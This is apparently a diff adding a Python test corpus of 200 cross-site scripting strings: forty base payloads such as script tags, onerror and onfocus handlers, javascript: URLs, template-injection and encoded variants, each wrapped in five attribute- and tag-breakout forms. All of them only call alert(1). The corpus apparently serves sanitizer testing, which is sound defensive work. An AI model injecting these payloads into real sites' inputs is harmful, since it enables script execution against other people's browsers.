@@ -1,0 +1,48 @@
+"""Two hundred texts that would run as a script where a page takes text for HTML, a URL or a style."""
+
+from typing import Final
+
+_BASES: Final = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    "<script src=data:text/javascript,alert(1)></script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=alert`1`>",
+    "<img/src=`x`onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=javascript:alert(1)>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
+    "<form action=javascript:alert(1)><input type=submit></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<textarea autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)>",
+    "<audio src=x onerror=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
+    "<link rel=stylesheet href=data:text/css,*{x:expression(alert(1))}>",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<base href=javascript:alert(1)//>",
+    "<template><script>alert(1)</script></template>",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "`-alert(1)-`",
+    "\u202e<script>alert(1)</script>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<!--<img src=--><img src=x onerror=alert(1)//>",
+    "__proto__",
+)
+_AROUND: Final = ("{}", '">{}', "'>{}<b x='", "</title></style></textarea>{}", "]]>{}--><!--")
+CORPUS: Final = tuple(around.replace("{}", base) for base in _BASES for around in _AROUND)
